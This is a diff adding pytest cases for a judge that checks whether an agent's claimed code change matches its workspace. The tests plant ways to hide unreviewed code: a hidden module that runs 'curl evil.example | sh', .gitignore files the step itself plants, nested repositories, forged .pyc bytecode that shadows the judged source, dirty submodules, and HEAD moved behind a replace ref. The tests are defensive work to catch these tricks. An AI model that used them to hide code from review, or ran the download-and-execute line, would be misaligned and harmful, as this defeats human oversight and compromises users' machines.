@@ -24,7 +24,8 @@ from hostile_repos import (
     with_evil,
     write_bytes, write_file,
 )
-from judge import EMPTY_TREE
+import judge
+from judge import EMPTY_TREE, Workspace
 from scenario_repos import Repo, git, git_env, snapshot  # noqa: F401  (git_env: autouse fixture)
 
 HOOKS = (
@@ -603,3 +604,168 @@ def test_control_repository_without_commits(tmp_path):
                 step={**STEP, "description": "Create src/calc/ops.py with add(a, b) and sub(a, b)"},
                 result=result_for(patch, summary="Created src/calc/ops.py with add(a, b) and sub(a, b)"))
     assert_valid(case, "no commits, base = the empty tree, a new file")
+
+
+# =================================================================================================
+# D. Code that would run but was never judged, and the last two hidden changes
+# =================================================================================================
+
+HOOK = "from calc._hook import steal\n"
+STEAL = "import os\n\n\ndef steal():\n    os.system('curl evil.example | sh')\n"
+
+
+def _imports_a_hidden_module(tmp_path, hide: str) -> Case:
+    """ops.py (claimed) imports calc._hook; _hook.py is hidden by ``hide``, a .gitignore the step plants."""
+    case = calc_case(tmp_path)
+    case.repo.write({OPS_PATH: HOOK + OPS_HONEST, "src/calc/_hook.py": STEAL})
+    case.patch = case.repo.diff()
+    case.result = result_for(case.patch)
+    write_file(case.root / hide, "_hook.py\n" if hide.startswith("src/") else "src/calc/_hook.py\n")
+    return case
+
+
+@pytest.mark.parametrize("hide", ["src/.gitignore", "src/calc/.gitignore", ".gitignore"])
+def test_a_gitignore_the_step_plants_does_not_hide_its_own_files(tmp_path, hide):
+    case = _imports_a_hidden_module(tmp_path, hide)
+    vector = f"a planted {hide} hides the new src/calc/_hook.py that ops.py imports"
+    git_is_fooled("_hook.py" not in git_status(case), vector)
+    api, cli = assert_not_valid(case, vector)
+    assert "src/calc/_hook.py" in api.reason and "src/calc/_hook.py" in cli.reason, f"{vector}: {api}; {cli}"
+
+
+def test_a_nested_repository_hidden_by_a_planted_gitignore_is_a_change(tmp_path):
+    case = calc_case(tmp_path)
+    nested = Repo(case.root / "src" / "calc" / "vendored", {"evil.py": STEAL})
+    assert nested.head()
+    write_file(case.root / "src" / ".gitignore", "vendored/\n")
+    vector = "a nested repository src/calc/vendored hidden by a planted src/.gitignore"
+    git_is_fooled("vendored" not in git_status(case), vector)
+    api, cli = assert_not_valid(case, vector)
+    assert "src/calc/vendored" in api.reason, f"{vector}: {api}"
+
+
+def _bytecode_for(tmp_path, source: str, target, mode: str) -> None:
+    """``target`` (a .pyc) compiled from ``source``: unchecked-hash, or timestamped with the work-tree source's
+    mtime and size so that Python takes it for the source's own."""
+    import py_compile
+    honest = tmp_path / "compile" / "ops.py"
+    honest.parent.mkdir(exist_ok=True)
+    honest.write_text(source, encoding="utf-8")
+    target.parent.mkdir(parents=True, exist_ok=True)
+    if mode == "unchecked-hash":
+        py_compile.compile(str(honest), cfile=str(target), doraise=True,
+                           invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
+        return
+    py_compile.compile(str(honest), cfile=str(target), doraise=True)
+    real = os.stat(target.parent.parent / "ops.py")
+    data = bytearray(target.read_bytes())
+    data[8:16] = (int(real.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little") + (real.st_size & 0xFFFFFFFF).to_bytes(4, "little")
+    target.write_bytes(bytes(data))
+
+
+@pytest.mark.parametrize("mode", ["unchecked-hash", "timestamp-matching-the-source"])
+def test_bytecode_that_shadows_the_judged_source_is_rejected(tmp_path, mode):
+    import sys
+    case = calc_case(tmp_path, {".gitignore": "__pycache__/\n"})
+    pyc = case.root / "src" / "calc" / "__pycache__" / f"ops.{sys.implementation.cache_tag}.pyc"
+    _bytecode_for(tmp_path, with_evil(OPS_HONEST), pyc, mode)
+    vector = f"{mode} .pyc under an ignored __pycache__/ holds other code than the judged ops.py"
+    git_is_fooled("pyc" not in git_status(case), vector)
+    api, cli = assert_not_valid(case, vector)
+    assert (api.rule, cli.rule) == ("ignored_code", "ignored_code"), f"{vector}: {api}; {cli}"
+
+
+def test_control_fresh_honest_bytecode_and_ignored_build_output(tmp_path):
+    import py_compile
+    import sys
+    case = calc_case(tmp_path, {".gitignore": "__pycache__/\nbuild/\n*.egg-info/\n"})
+    for name in ("ops", "__init__"):
+        py_compile.compile(str(case.root / "src" / "calc" / f"{name}.py"), doraise=True)
+    write_file(case.root / "build" / "lib" / "calc" / "ops.py", OPS_HONEST)
+    write_file(case.root / "src" / "calc.egg-info" / "PKG-INFO", "Name: calc\n")
+    assert (case.root / "src" / "calc" / "__pycache__" / f"ops.{sys.implementation.cache_tag}.pyc").exists()
+    verdict = judge.validate(case.step, case.result, workspace=Workspace(case.root, case.base))
+    assert verdict.valid and not [f for f in verdict.findings if f.rule == "ignored_code"], verdict.findings
+    assert_valid(case, "fresh bytecode Python wrote for the judged sources, ignored build output")
+
+
+def test_control_a_gitignore_line_the_step_adds_for_files_base_already_ignored(tmp_path):
+    case = calc_case(tmp_path, {".gitignore": "*.log\n"})
+    write_file(case.root / "src" / "calc" / "debug.log", "noise\n")
+    case.repo.write({".gitignore": "*.log\n.venv/\n"})
+    write_file(case.root / ".venv" / "pyvenv.cfg", "home = /usr/bin\n")
+    case.patch = case.repo.diff()
+    case.result = result_for(case.patch, [OPS_PATH, ".gitignore"])
+    case.step = {**STEP, "description": STEP["description"] + ", and ignore .venv/ in .gitignore"}
+    verdict = judge.validate(case.step, case.result, workspace=Workspace(case.root, case.base))
+    assert not verdict.valid and ".venv/pyvenv.cfg" in verdict.reason, "the new .venv/ rule hides what base did not"
+    shutil.rmtree(case.root / ".venv")
+    assert_valid(case, "a .gitignore line added; the only other ignored file was ignored by base already")
+
+
+def test_control_signals_for_ignored_code_that_may_be_honest(tmp_path):
+    case = calc_case(tmp_path, {".gitignore": "_version.py\nconftest.py\n"})
+    write_file(case.root / "src" / "calc" / "_version.py", "version = '1.0'\n")
+    write_file(case.root / "conftest.py", "")
+    verdict = judge.validate(case.step, case.result, workspace=Workspace(case.root, case.base))
+    found = [f for f in verdict.findings if f.rule == "ignored_code"]
+    assert verdict.valid and [f.severity for f in found] == ["signal"], verdict.findings
+    assert set(found[0].files) == {"src/calc/_version.py", "conftest.py"}
+
+
+def assert_unreadable(case: Case, vector: str) -> list[Outcome]:
+    """Refused once read: workspace_unreadable from both (the base resolves; what the reader finds is refused)."""
+    api, cli = judge_it(case, vector)
+    assert api.refused and cli.refused and not (api.valid or cli.valid), f"{vector}: not refused: {api}; {cli}"
+    return [api, cli]
+
+
+def test_a_dirty_submodule_work_tree_is_refused(tmp_path):
+    case = _with_submodule(tmp_path)
+    write_file(case.root / "sub" / "lib.py", "X = 2\n" + EVIL_LINE)
+    vector = "an uncommitted edit inside the submodule's work tree"
+    for outcome in assert_unreadable(case, vector):
+        assert "submodule sub" in outcome.reason and "lib.py" in outcome.reason, f"{vector}: {outcome}"
+
+
+def test_a_new_untracked_file_in_a_submodule_is_refused(tmp_path):
+    case = _with_submodule(tmp_path)
+    write_file(case.root / "sub" / "payload.py", EVIL_LINE)
+    assert_unreadable(case, "a new file inside the submodule's work tree")
+
+
+def test_head_moved_to_a_commit_the_work_tree_does_not_show_masked_by_a_replace_ref(tmp_path):
+    case = calc_case(tmp_path)
+    hidden = make_commit(case.root, make_tree(case.root, case.base, {OPS_PATH: OPS_HONEST,
+                                                                      "src/calc/_payload.py": EVIL_LINE}), case.base)
+    decoy = make_commit(case.root, make_tree(case.root, case.base, {OPS_PATH: OPS_HONEST}), case.base)
+    run_git(case.root, "update-ref", "HEAD", hidden)
+    run_git(case.root, "read-tree", decoy)
+    write_file(case.gitdir / "refs" / "replace" / hidden, decoy + "\n")
+    vector = "HEAD moved to a commit holding src/calc/_payload.py, masked by a replace ref"
+    git_is_fooled("_payload" not in git_status(case) and not evil_shown_by_git(case, case.base, "HEAD"), vector)
+    api, cli = assert_not_valid(case, vector)
+    assert (api.rule, cli.rule) == ("head_not_judged", "head_not_judged"), f"{vector}: {api}; {cli}"
+    assert "src/calc/_payload.py" in api.reason, f"{vector}: {api}"
+
+
+def test_head_moved_to_a_commit_whose_file_differs_from_the_work_tree(tmp_path):
+    case = calc_case(tmp_path)
+    evil = make_commit(case.root, make_tree(case.root, case.base, {OPS_PATH: OPS_EVIL}), case.base)
+    run_git(case.root, "update-ref", "HEAD", evil)
+    run_git(case.root, "read-tree", evil)
+    api, cli = assert_not_valid(case, "HEAD's commit holds the evil ops.py, the work tree the honest one")
+    assert (api.rule, cli.rule) == ("head_not_judged", "head_not_judged"), f"{api}; {cli}"
+
+
+def test_control_stale_bytecode_python_would_not_load_is_not_reported(tmp_path):
+    """Other code in the bytecode, but its recorded size is not the source's: Python recompiles, it never runs."""
+    import sys
+    case = calc_case(tmp_path, {".gitignore": "__pycache__/\n"})
+    pyc = case.root / "src" / "calc" / "__pycache__" / f"ops.{sys.implementation.cache_tag}.pyc"
+    _bytecode_for(tmp_path, with_evil(OPS_HONEST), pyc, "timestamp-matching-the-source")
+    data = bytearray(pyc.read_bytes())
+    data[12:16] = (int.from_bytes(data[12:16], "little") + 1).to_bytes(4, "little")  # another size: stale
+    pyc.write_bytes(bytes(data))
+    verdict = judge.validate(case.step, case.result, workspace=Workspace(case.root, case.base))
+    assert verdict.valid and not [f for f in verdict.findings if f.rule == "ignored_code"], verdict.findings
